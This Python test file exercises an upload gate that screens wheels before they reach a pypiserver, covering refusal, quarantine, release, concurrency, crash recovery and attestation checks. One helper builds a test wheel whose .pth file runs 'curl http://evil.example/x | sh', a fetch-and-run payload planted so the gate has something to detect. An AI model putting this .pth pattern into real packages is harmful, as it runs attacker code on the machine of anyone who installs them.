"""The upload gate end to end: a real pypiserver (with an htpasswd user) upstream, the gate
as a subprocess in front of it, and real ``twine upload`` and ``pip install``."""

from __future__ import annotations

import dataclasses
import json
import os
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
import requests

from tests.helpers import assert_no_traceback
from tests.helpers.corpus import BASE, BENIGN, MALICIOUS
from tests.helpers.dists import DistSpec, build_wheel
from tests.helpers.gate import (
    GateProcess,
    gate_args,
    post_upload,
    twine_upload,
    write_htpasswd,
)
from tests.helpers.pypiserver import PypiServer, free_port

pytestmark = pytest.mark.integration

USER, PASSWORD = "uploader", "secret"  # the credentials post_upload sends by default


def _variant(variant_id: str) -> Any:
    return next(v for v in (*MALICIOUS, *BENIGN) if v.id == variant_id)


def _clean_env() -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("TWINE_", "PIP_VERIFY_UP"))}
    # twine prints through rich: wide lines keep the refusal's reason on one line.
    return {**env, "COLUMNS": "500"}


@pytest.fixture
def upstream(tmp_path: Path) -> Iterator[PypiServer]:
    """pypiserver with one user allowed to upload, and tinyweb 1.0 already published."""
    packages = tmp_path / "packages"
    packages.mkdir()
    build_wheel(BASE, packages)
    htpasswd = write_htpasswd(tmp_path / "htpasswd", USER, PASSWORD)
    with PypiServer(packages, extra_args=("-P", str(htpasswd), "-a", "update")) as server:
        yield server


def _upload_url(server: PypiServer) -> str:
    return f"http://127.0.0.1:{server.port}/"


def _gate(tmp_path: Path, upstream_url: str, *extra: str) -> GateProcess:
    return GateProcess(*gate_args(tmp_path, upstream_url, *extra), env=_clean_env())


def _twine(
    gate_url: str, *files: Path, password: str = PASSWORD
) -> subprocess.CompletedProcess[str]:
    return twine_upload(gate_url, *files, auth=(USER, password), env=_clean_env())


def _quarantine(tmp_path: Path, *args: str, env: dict[str, str] | None = None) -> Any:
    return subprocess.run(
        [
            sys.executable,
            "-m",
            "verify",
            "quarantine",
            "--quarantine",
            str(tmp_path / "quarantine"),
            *args,
        ],
        capture_output=True,
        text=True,
        env=env or _clean_env(),
        timeout=120,
        check=False,
    )


def _published(server: PypiServer) -> set[str]:
    return {p.name for p in server.directory.iterdir() if p.is_file()}


def test_a_clean_upload_lands_and_installs(tmp_path: Path, upstream: PypiServer) -> None:
    wheel = build_wheel(_variant("feature").build(), tmp_path / "dist")
    with _gate(tmp_path, _upload_url(upstream)) as gate:
        result = _twine(gate.url, wheel)
        assert result.returncode == 0, result.stdout + result.stderr
        (decision,) = gate.wait_for_decisions(1)
    assert wheel.name in _published(upstream)
    assert decision["decision"] == "accepted"
    assert decision["filename"] == wheel.name
    assert decision["uploader"] == USER
    assert decision["upstream_status"] == 200
    assert PASSWORD not in "\n".join(gate.lines)
    target = tmp_path / "target"
    installed = subprocess.run(
        [
            sys.executable,
            "-m",
            "pip",
            "install",
            "--no-deps",
            "--disable-pip-version-check",
            "--target",
            str(target),
            "--index-url",
            upstream.url,
            "tinyweb==1.1",
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert installed.returncode == 0, installed.stderr
    assert (target / "tinyweb-1.1.dist-info").is_dir()


def test_a_denied_upload_is_refused_quarantined_and_can_be_released(
    tmp_path: Path, upstream: PypiServer
) -> None:
    wheel = build_wheel(_variant("pth-file").build(), tmp_path / "dist")
    with _gate(tmp_path, _upload_url(upstream)) as gate:
        result = _twine(gate.url, wheel)
        (decision,) = gate.wait_for_decisions(1)
    output = result.stdout + result.stderr
    assert result.returncode != 0
    assert "403" in output
    assert "pip-verify refused" in output
    assert "pth-exec" in output, output
    assert wheel.name not in _published(upstream)
    assert decision["decision"] == "refused"
    assert decision["status"] == 403

    listed = _quarantine(tmp_path, "list", "--format", "json")
    assert listed.returncode == 0, listed.stderr
    (entry,) = json.loads(listed.stdout)
    assert entry["filename"] == wheel.name
    assert entry["uploader"] == USER
    assert entry["id"] == decision["quarantine"]
    shown = _quarantine(tmp_path, "show", entry["id"][:12], "--report")
    assert json.loads(shown.stdout)["decision"] == "deny"

    env = {**_clean_env(), "PIP_VERIFY_UPSTREAM_PASSWORD": PASSWORD}
    released = _quarantine(
        tmp_path,
        "release",
        entry["id"][:12],
        "--upstream",
        _upload_url(upstream),
        "--by",
        "alice",
        "--reason",
        "the .pth file is the documented plugin loader",
        "--username",
        USER,
        env=env,
    )
    assert released.returncode == 0, released.stderr
    assert wheel.name in _published(upstream)
    shown = _quarantine(tmp_path, "show", entry["id"][:12])
    assert "alice" in shown.stdout
    assert "released" in shown.stdout


def test_twine_skip_existing_never_takes_a_refusal_for_success(
    tmp_path: Path, upstream: PypiServer
) -> None:
    # twine decides with skip_upload() whether a failed upload "already exists"; ask it.
    from twine.commands.upload import skip_upload

    refused = build_wheel(_variant("pth-file").build(), tmp_path / "dist")
    clean = build_wheel(_variant("feature").build(), tmp_path / "clean")
    with _gate(tmp_path, _upload_url(upstream)) as gate:
        responses = [
            post_upload(gate.url, refused),
            post_upload(gate.url, clean, fields={"name": "File already exists"}),
        ]
    assert [r.status_code for r in responses] == [403, 400]
    assert "already exist" not in responses[1].reason.lower()
    for response in responses:
        assert not skip_upload(response, True, None)  # type: ignore[arg-type]


def test_wrong_credentials_get_the_upstream_answer(tmp_path: Path, upstream: PypiServer) -> None:
    wheel = build_wheel(_variant("feature").build(), tmp_path / "dist")
    with _gate(tmp_path, _upload_url(upstream)) as gate:
        result = _twine(gate.url, wheel, password="wrong")
        (decision,) = gate.wait_for_decisions(1)
    assert result.returncode != 0
    assert decision["decision"] == "accepted"
    assert decision["upstream_status"] in (401, 403)
    assert wheel.name not in _published(upstream)


def test_an_upstream_that_is_down_gets_503_and_nothing_is_kept(tmp_path: Path) -> None:
    wheel = build_wheel(_variant("feature").build(), tmp_path / "dist")
    down = f"http://127.0.0.1:{free_port()}/"
    with _gate(tmp_path, down, "--index", f"http://127.0.0.1:{free_port()}/simple/") as gate:
        response = post_upload(gate.url, wheel)
        result = _twine(gate.url, wheel)
        decisions = gate.wait_for_decisions(2)
    assert response.status_code == 503
    assert "nothing was published" in response.text
    assert result.returncode != 0
    assert "503" in result.stdout + result.stderr
    assert {d["decision"] for d in decisions} <= {"upstream-unavailable", "unavailable"}
    assert not _entries(tmp_path)


def _spooled(tmp_path: Path) -> list[Path]:
    """Files (not the gates' lock files) left in the spool."""
    spool = tmp_path / "quarantine" / ".spool"
    return [p for p in spool.rglob("*") if p.is_file() and p.suffix != ".lock"]


def _entries(tmp_path: Path) -> list[Path]:
    root = tmp_path / "quarantine"
    if not root.exists():
        return []
    return [p for p in root.iterdir() if not p.name.startswith(".")]


def test_bad_requests_get_400_with_a_reason(tmp_path: Path, upstream: PypiServer) -> None:
    wheel = build_wheel(_variant("feature").build(), tmp_path / "dist")
    big = build_wheel(
        DistSpec("bigpkg", "1.0", files={"bigpkg/blob.bin": os.urandom(300_000)}), tmp_path / "big"
    )
    with _gate(tmp_path, _upload_url(upstream), "--max-upload-size", "200k") as gate:
        cases = {
            "malformed": requests.post(
                gate.url,
                data=b"--x\r\nnot a form",
                headers={"Content-Type": "multipart/form-data; boundary=x"},
                auth=(USER, PASSWORD),
                timeout=30,
            ),
            "not multipart": requests.post(
                gate.url,
                data=b"{}",
                headers={"Content-Type": "application/json"},
                auth=(USER, PASSWORD),
                timeout=30,
            ),
            "oversized": post_upload(gate.url, big),
            "traversal": post_upload(gate.url, wheel, filename="../" + wheel.name),
            "mismatch": post_upload(gate.url, wheel, fields={"version": "9.9"}),
            "digest": post_upload(gate.url, wheel, fields={"sha256_digest": "0" * 64}),
            "action": post_upload(gate.url, wheel, fields={":action": "remove_pkg"}),
            "attestations": post_upload(gate.url, wheel, fields={"attestations": "[1, 2]"}),
        }
        anonymous = post_upload(gate.url, wheel, auth=None)
        health = requests.get(gate.url + "health", timeout=10)
    for case, response in cases.items():
        assert response.status_code == 400, (case, response.status_code, response.text)
        assert response.reason.startswith("Bad upload: "), (case, response.reason)
        assert_no_traceback(response.text)
    assert "limit" in cases["oversized"].reason
    assert "unsafe upload filename" in cases["traversal"].reason
    assert "not a file of version" in cases["mismatch"].reason
    assert "sha256_digest does not match" in cases["digest"].reason
    assert anonymous.status_code == 401
    assert health.status_code == 200
    assert _published(upstream) == {"tinyweb-1.0-py3-none-any.whl"}
    assert not _entries(tmp_path)
    assert not _spooled(tmp_path)


def _pth_spec(name: str) -> DistSpec:
    module = name.replace("-", "_")
    return DistSpec(
        name,
        "1.0",
        files={
            f"{module}/__init__.py": "VALUE = 1\n",
            f"{module}_hook.pth": "import os; os.system('curl http://evil.example/x | sh')\n",
        },
    )


def test_twenty_concurrent_uploads_lose_nothing(tmp_path: Path, upstream: PypiServer) -> None:
    clean = [build_wheel(DistSpec(f"internal-{i}", "1.0"), tmp_path / "dist") for i in range(16)]
    bad = [build_wheel(_pth_spec(f"hooked-{i}"), tmp_path / "dist") for i in range(4)]
    with _gate(tmp_path, _upload_url(upstream), "--threads", "8") as gate:
        with ThreadPoolExecutor(max_workers=20) as pool:
            responses = list(pool.map(lambda path: post_upload(gate.url, path), clean + bad))
        decisions = gate.wait_for_decisions(20)
    statuses = [r.status_code for r in responses]
    assert statuses[:16] == [200] * 16, [r.text for r in responses[:16] if r.status_code != 200]
    assert statuses[16:] == [403] * 4
    assert {p.name for p in clean} <= _published(upstream)
    assert not {p.name for p in bad} & _published(upstream)
    assert len(_entries(tmp_path)) == 4
    assert len(decisions) == 20
    assert sorted(d["decision"] for d in decisions) == ["accepted"] * 16 + ["refused"] * 4
    assert not _spooled(tmp_path)


def test_a_crash_mid_upload_leaves_nothing_behind(tmp_path: Path, upstream: PypiServer) -> None:
    # The baseline index accepts connections and never answers: screening hangs, with the
    # upload spooled, until the gate is killed.
    wheel = build_wheel(_variant("feature").build(), tmp_path / "dist")
    with socket.socket() as silent:
        silent.bind(("127.0.0.1", 0))
        silent.listen(16)
        silent_index = f"http://127.0.0.1:{silent.getsockname()[1]}/simple/"
        gate = _gate(
            tmp_path, _upload_url(upstream), "--index", silent_index, "--timeout", "60"
        ).start()
        spool = tmp_path / "quarantine" / ".spool"
        with ThreadPoolExecutor(max_workers=1) as pool:
            pending = pool.submit(post_upload, gate.url, wheel)
            try:
                deadline = time.monotonic() + 30
                while not list(spool.rglob("request.body")) and time.monotonic() < deadline:
                    time.sleep(0.01)
                assert list(spool.rglob("request.body")), "the upload never reached the spool"
                gate.kill()
            finally:
                gate.stop()
            with pytest.raises(requests.ConnectionError):
                pending.result()
    (crashed,) = [p for p in spool.iterdir() if p.is_dir()]
    with _gate(tmp_path, _upload_url(upstream)) as restarted:
        listed = _quarantine(tmp_path, "list", "--format", "json")
        assert restarted.url
        assert not crashed.exists()
    assert json.loads(listed.stdout) == []
    assert not list(spool.iterdir())  # a clean stop removes the gate's own spool too
    assert _published(upstream) == {"tinyweb-1.0-py3-none-any.whl"}


def test_gate_usage_errors_exit_2(tmp_path: Path) -> None:
    from verify._cli import main

    assert main(["gate", "--upstream", "ftp://x.example/", "--quarantine", str(tmp_path)]) == 2
    assert (
        main(
            [
                "gate",
                "--upstream",
                "http://x.example/",
                "--quarantine",
                str(tmp_path),
                "--listen",
                "nope",
            ]
        )
        == 2
    )


@pytest.mark.parametrize(
    ("expect", "status", "rule"),
    [
        ("tinyweb:kind=GitHub,repository=acme/tinyweb,workflow=release.yml", 0, None),
        (
            "tinyweb:kind=GitHub,repository=acme/tinyweb,workflow=nightly.yml",
            1,
            "publisher-mismatch",
        ),
    ],
)
def test_twine_attestations_are_verified_against_the_pinned_publisher(
    tmp_path: Path, upstream: PypiServer, expect: str, status: int, rule: str | None
) -> None:
    from tests.helpers.sigstore import GitHubIdentity, TestSigstore

    sigstore = TestSigstore()
    trust_config = tmp_path / "sigstore-trust.json"
    trust_config.write_text(sigstore.client_trust_config_json())
    wheel = build_wheel(_variant("feature").build(), tmp_path / "dist")
    attestation = sigstore.attest(wheel, publisher=GitHubIdentity("acme/tinyweb", "release.yml"))
    # twine upload --attestations sends <dist>.*.attestation files found beside each dist.
    wheel.with_name(wheel.name + ".publish.attestation").write_text(attestation.model_dump_json())
    policy = tmp_path / "attested.toml"
    policy.write_text('extends = "default"\n[rules.provenance-required]\ndecision = "deny"\n')
    gate = _gate(
        tmp_path,
        _upload_url(upstream),
        "--trust-config",
        str(trust_config),
        "--expect",
        expect,
        "--policy",
        str(policy),
    )
    with gate:
        result = subprocess.run(
            [
                sys.executable,
                "-m",
                "twine",
                "upload",
                "--attestations",
                "--repository-url",
                gate.url,
                "-u",
                USER,
                "-p",
                PASSWORD,
                "--non-interactive",
                "--disable-progress-bar",
                str(wheel),
                str(wheel.with_name(wheel.name + ".publish.attestation")),
            ],
            capture_output=True,
            text=True,
            env=_clean_env(),
            timeout=120,
            check=False,
        )
        (decision,) = gate.wait_for_decisions(1)
    output = result.stdout + result.stderr
    assert decision["attestations"] == 1
    if status == 0:
        assert result.returncode == 0, output
        assert decision["decision"] == "accepted"
        assert wheel.name in _published(upstream)
    else:
        assert result.returncode != 0
        assert rule is not None
        assert rule in output
        assert wheel.name not in _published(upstream)


def test_first_seen_publishers_are_recorded_only_for_what_was_published(
    tmp_path: Path, upstream: PypiServer
) -> None:
    from tests.helpers.sigstore import GitHubIdentity, TestSigstore
    from verify.trust_store import TrustStore

    sigstore = TestSigstore()
    trust_config = tmp_path / "sigstore-trust.json"
    trust_config.write_text(sigstore.client_trust_config_json())

    def attested(version: str, repository: str) -> Path:
        spec = dataclasses.replace(_variant("feature").build(), version=version)
        wheel = build_wheel(spec, tmp_path / f"dist-{version}-{repository.replace('/', '-')}")
        attestation = sigstore.attest(wheel, publisher=GitHubIdentity(repository, "release.yml"))
        wheel.with_name(wheel.name + ".publish.attestation").write_text(
            attestation.model_dump_json()
        )
        return wheel

    def upload(gate: GateProcess, wheel: Path, password: str = PASSWORD) -> requests.Response:
        attestation = json.loads(wheel.with_name(wheel.name + ".publish.attestation").read_text())
        return post_upload(
            gate.url,
            wheel,
            auth=(USER, password),
            fields={"attestations": json.dumps([attestation])},
        )

    store = tmp_path / "trust.toml"
    with _gate(tmp_path, _upload_url(upstream), "--trust-config", str(trust_config)) as gate:
        # Refused upstream (bad password): screened, but nothing is learnt from it.
        hijack = attested("1.1", "mallory/tinyweb")
        assert upload(gate, hijack, password="wrong").status_code in (401, 403)
        assert not store.exists() or TrustStore.load(store).get("tinyweb") is None
        # Published: its publisher becomes the trusted one.
        assert upload(gate, attested("1.1", "acme/tinyweb")).status_code == 200
        entry = TrustStore.load(store).get("tinyweb")
        assert entry is not None
        assert entry.identity.repository == "acme/tinyweb"
        # The next release from another repository is refused and quarantined.
        later = upload(gate, attested("1.2", "mallory/tinyweb"))
        decisions = gate.wait_for_decisions(3)
    assert later.status_code == 403
    assert "publisher-change" in later.reason
    assert decisions[1]["recorded"] == ["tinyweb"]
    assert "tinyweb-1.2-py3-none-any.whl" not in _published(upstream)


def _uv() -> str:
    try:
        from uv import find_uv_bin
    except ImportError:
        pytest.skip("uv is not installed (it is in the test extra)")
    return str(find_uv_bin())


def test_uv_publish_goes_through_the_gate(tmp_path: Path, upstream: PypiServer) -> None:
    uv = _uv()
    clean = build_wheel(_variant("feature").build(), tmp_path / "clean")
    hooked = build_wheel(_variant("pth-file").build(), tmp_path / "hooked")

    def publish(gate: GateProcess, wheel: Path) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [
                *(uv, "publish", "--no-config", "--publish-url", gate.url),
                *("-u", USER, "-p", PASSWORD, str(wheel)),
            ],
            capture_output=True,
            text=True,
            env={**_clean_env(), "UV_CACHE_DIR": str(tmp_path / "uv-cache")},
            timeout=120,
            check=False,
        )

    with _gate(tmp_path, _upload_url(upstream)) as gate:
        refused = publish(gate, hooked)
        accepted = publish(gate, clean)
        decisions = gate.wait_for_decisions(2)
    assert refused.returncode != 0
    assert "403" in refused.stderr
    assert "pth-exec" in refused.stderr
    assert accepted.returncode == 0, accepted.stderr
    assert [d["decision"] for d in decisions] == ["refused", "accepted"]
    assert clean.name in _published(upstream)
